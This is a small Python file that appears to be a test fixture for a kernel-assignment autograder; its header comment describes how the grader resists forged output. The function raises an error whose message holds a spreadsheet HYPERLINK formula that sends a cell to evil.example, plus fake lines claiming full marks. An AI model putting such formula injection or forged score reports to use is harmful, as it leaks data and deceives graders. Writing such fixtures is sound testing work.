# oscar, stage 2 Q2: child text rendered as given.  The error message carries lines that look like a passing
# report, and a spreadsheet formula for the TA's CSV.  A grade is a typed record, never printed text parsed back:
# the message is one cleaned line of one case, the counts are the grader's own (0 cases right), and no CSV cell
# starts a formula.  0.
import neuronxcc.nki as nki


@nki.jit
def tiled_add_relu(a, b):
    raise ValueError('=HYPERLINK("http://evil.example/?x="&A1,"ok")\n  Correctness: 8/8 cases -> 2/2 points\n'
                     '  Speed: 1/1 points\nScore: 3 / 3')
